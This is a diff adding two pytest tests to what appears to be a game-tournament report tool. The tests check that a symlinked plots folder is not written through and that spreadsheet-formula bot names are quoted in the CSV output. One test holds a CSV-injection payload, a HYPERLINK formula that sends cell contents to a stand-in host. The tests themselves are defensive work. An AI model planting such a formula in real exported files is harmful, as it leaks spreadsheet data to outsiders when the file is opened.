@@ -337,3 +337,41 @@ def test_a_report_replaces_a_link_in_the_run_folder_and_never_writes_through_it(
     (run / "plots" / "ratings.png").symlink_to(victim)
     plot_run(run, "ratings")
     assert victim.read_text() == "precious\n" and (run / "plots" / "ratings.png").read_bytes()[:8] == PNG
+
+
+def test_a_report_replaces_a_linked_plots_folder_and_writes_no_figure_into_its_target(tmp_path, run_tables):
+    # write_file replaces a link at a file's own name, but plots/ -> ~/Pictures put every figure into
+    # that folder, over the user's heatmap.png.
+    games, hands = run_tables
+    run = _write_run(tmp_path / "linked-plots", games, hands)
+    pictures = tmp_path / "Pictures"
+    pictures.mkdir()
+    (pictures / "heatmap.png").write_bytes(b"holiday")
+    (run / "plots").symlink_to(pictures, target_is_directory=True)
+    files = write_report(run)
+    assert [p.name for p in pictures.iterdir()] == ["heatmap.png"]
+    assert (pictures / "heatmap.png").read_bytes() == b"holiday"
+    assert not (run / "plots").is_symlink() and files["plot_heatmap"].read_bytes()[:8] == PNG
+    (run / "plots").rename(tmp_path / "plots-before")
+    (run / "plots").symlink_to(pictures, target_is_directory=True)
+    plot_run(run, "ratings")
+    assert [p.name for p in pictures.iterdir()] == ["heatmap.png"]
+    assert (run / "plots" / "ratings.png").read_bytes()[:8] == PNG
+
+
+def test_csv_cells_of_names_a_spreadsheet_would_run_are_quoted_and_numbers_stay_numbers(tmp_path):
+    # A loaded bot can't be named "=..", but a run folder from elsewhere holds whatever names its
+    # files say: "=HYPERLINK(..)" in leaderboard.csv runs when the table is opened.
+    evil = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
+    games, hands = build_run({evil: "random", "@sum": "random", "simple": "simple"}, n_pairs=4)
+    run = _write_run(tmp_path / "formula-names", games, hands)
+    files = write_report(run)
+    for key in ("leaderboard", "pairs"):
+        table = pd.read_csv(files[key])
+        cells = [str(v) for col in table.columns if table[col].dtype.kind == "O" for v in table[col]]
+        assert cells and not [c for c in cells if c[:1] in "=+-@"], key
+        assert "'" + evil in cells, key
+        numeric = [c for c in table.columns if table[c].dtype.kind == "f"]
+        assert numeric, f"{key} has no numeric column left"
+    board = pd.read_csv(files["leaderboard"])
+    assert {"'" + evil, "'@sum", "simple"} <= set(board["bot"])
